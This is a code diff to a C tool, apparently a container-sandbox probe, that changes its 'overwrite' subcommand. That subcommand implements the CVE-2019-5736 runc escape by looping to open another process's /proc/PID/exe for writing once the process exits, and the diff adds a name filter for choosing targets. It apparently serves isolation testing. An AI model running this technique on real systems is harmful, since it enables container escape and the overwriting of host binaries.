@@ -400,8 +400,9 @@ static int cmd_label(char **argv)
 	return 0;
 }
 
-/* overwrite PATH N: the attack of CVE-2019-5736. Opens /proc/PID/exe of whatever enters the box for reading, then tries to
- * open it for writing through the descriptor once it is no longer running, and says what it could write to. */
+/* overwrite SECONDS NAME: the attack of CVE-2019-5736. Opens /proc/PID/exe of what enters the box and whose program's name
+ * holds NAME for reading, tries to open it for writing through the descriptor once it no longer runs, and says how often
+ * it found and wrote it. */
 static int cmd_overwrite(char **argv)
 {
 	int found = 0, written = 0;
@@ -422,7 +423,7 @@ static int cmd_overwrite(char **argv)
 			if (fd < 0)
 				continue;
 			snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
-			if (readlink(name, target, sizeof(target) - 1) > 0 && !strstr(target, "/probe") && !strstr(target, "busybox")) {
+			if (readlink(name, target, sizeof(target) - 1) > 0 && strstr(target, argv[1])) {
 				found++;
 				for (int i = 0; i < 100000; i++) {
 					int w = open(name, O_WRONLY | O_CLOEXEC);
@@ -484,7 +485,7 @@ static const struct {
 	{ "eat", 1, cmd_eat },
 	{ "spawn", 1, cmd_spawn },
 	{ "label", 0, cmd_label },
-	{ "overwrite", 1, cmd_overwrite },
+	{ "overwrite", 2, cmd_overwrite },
 	{ "swap", 2, cmd_swap },
 };
 
